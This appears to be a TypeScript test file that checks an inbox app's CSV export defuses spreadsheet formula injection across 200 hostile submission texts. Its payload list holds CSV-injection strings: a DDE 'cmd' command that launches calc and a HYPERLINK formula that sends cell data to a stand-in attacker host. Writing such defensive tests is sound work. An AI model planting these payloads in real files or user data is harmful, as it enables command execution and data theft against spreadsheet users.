import { expect, it } from 'vitest';
import { saveSubmission } from '#netlify/store/submissions.ts';
import { createSubmissionId } from '#netlify/store/keys.ts';
import { readCsv } from '#tests/domain/shared/read-csv.ts';
import { createReadingWorld } from '#tests/netlify/inbox/reading/reading-world.ts';
import { jsonPost, NOON, send } from './world.ts';

const CELLS = 200;
const STARTS = ['=', '+', '-', '@', '\t', '\0', '"', '\r', '\n', '＝', '＋', '－', '＠', "'"];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.test/?"&A1,"click")',
  '1+1',
  '"",\r\n"=2+2"',
  'SUM(1,2);=3+3',
  '-1\n=1+1,"',
  ' \u202etxt',
  '',
];
/** Every start before every payload, and again, until there are 200. */
const hostile = Array.from({ length: CELLS }, (_, n) => {
  const payload = PAYLOADS[Math.floor(n / STARTS.length) % PAYLOADS.length] ?? '';
  return `${STARTS[n % STARTS.length] ?? ''}${payload}${n}`;
});
const RUNS_AS_FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/;
/** As a reader sees it that takes every semicolon, tab and break for the end of a cell. */
const parts = (text: string) => text.split(/[,;\t\r\n]/);
const withoutApostrophes = (text: string) => text.replaceAll("'", '');

/** Records as they may have been stored before a rule of today: hostile in every text of theirs. */
async function hostileWorld() {
  const world = await createReadingWorld();
  const entries = hostile.map((_, n) => ({
    formType: 'contact',
    id: createSubmissionId(NOON + n),
  }));
  for (const [n, text] of hostile.entries()) {
    await saveSubmission(world.store, {
      ...{ formType: 'contact', id: entries[n]?.id ?? '', email: text, fingerprint: String(n) },
      fields: { name: text, email: text, message: text, source: text, extra: [text] },
      isSuspicious: false,
      now: NOON,
    });
  }
  return { world, entries };
}

it('200 hostile texts in every column are exported as CSV that no spreadsheet runs and every reader reads back', async () => {
  const { world, entries } = await hostileWorld();
  const request = jsonPost('/api/inbox/export', { entries, format: 'csv' }, world.headers);
  const [header = [], ...rows] = readCsv(await (await send(world, request)).text());
  expect(rows).toHaveLength(CELLS);
  for (const [at, row] of rows.entries()) {
    const text = hostile[at] ?? '';
    expect(row).toHaveLength(header.length);
    expect(row.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    expect(row.flatMap(parts).filter((part) => RUNS_AS_FORMULA.test(part))).toEqual([]);
    const cell = (name: string) => row[header.indexOf(name)] ?? '';
    for (const name of ['email', 'source', 'name', 'message']) {
      expect(withoutApostrophes(cell(name))).toBe(withoutApostrophes(text));
    }
    expect(JSON.parse(cell('other_fields'))).toEqual({ extra: [text] });
  }
});
